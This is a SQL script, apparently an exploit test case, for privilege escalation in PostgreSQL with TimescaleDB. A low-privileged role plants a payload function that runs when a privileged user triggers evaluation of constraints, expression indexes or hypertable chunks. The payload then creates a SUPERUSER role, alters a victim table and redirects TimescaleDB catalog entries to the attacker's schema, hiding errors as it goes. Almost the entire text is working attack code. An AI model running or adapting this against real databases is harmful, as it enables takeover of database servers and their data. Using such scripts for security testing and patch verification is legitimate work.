-- Owner's code where PostgreSQL computes constants: while statements are read, tables are attached, checks and foreign keys
-- are added, and while any query of a table is planned that has an index with an expression.
CREATE SCHEMA mal AUTHORIZATION $MALLORY;
CREATE TABLE public.victim (id int PRIMARY KEY, held text);
INSERT INTO public.victim VALUES (1, 'untouched');
SET SESSION AUTHORIZATION $MALLORY;
CREATE FUNCTION mal.pay(what text) RETURNS int LANGUAGE plpgsql AS $$
BEGIN
  IF session_user <> '$MALLORY' AND current_user <> '$MALLORY' THEN
    BEGIN
      EXECUTE format('CREATE ROLE %I SUPERUSER', '$MALLORY_' || what);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
      UPDATE public.victim SET held = 'by ' || what;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
      UPDATE _timescaledb_catalog.hypertable SET chunk_sizing_func_schema = 'mal';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
      UPDATE _timescaledb_catalog.bgw_job SET owner = 'postgres', proc_schema = 'mal';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END IF;
  RETURN 1;
END $$;
CREATE FUNCTION mal.one(what text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN mal.pay(what); END $$;
CREATE FUNCTION mal.val(a int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN mal.pay('value') + a; END $$;
CREATE TABLE mal.rows (a int CHECK (mal.one('rows') = 1));
INSERT INTO mal.rows VALUES (1);
CREATE TABLE mal.indexed (a int);
INSERT INTO mal.indexed VALUES (1);
CREATE INDEX ON mal.indexed ((mal.val(a)));
CREATE MATERIALIZED VIEW mal.mv AS SELECT mal.val(a) AS a FROM mal.indexed;
CREATE INDEX ON mal.mv ((mal.val(a)));
CREATE TABLE mal.h (time timestamptz NOT NULL, a int CHECK (mal.one('chunk') > 0));
SELECT public.create_hypertable('mal.h', 'time');
INSERT INTO mal.h VALUES ('2026-01-01Z', 1);
RESET SESSION AUTHORIZATION;
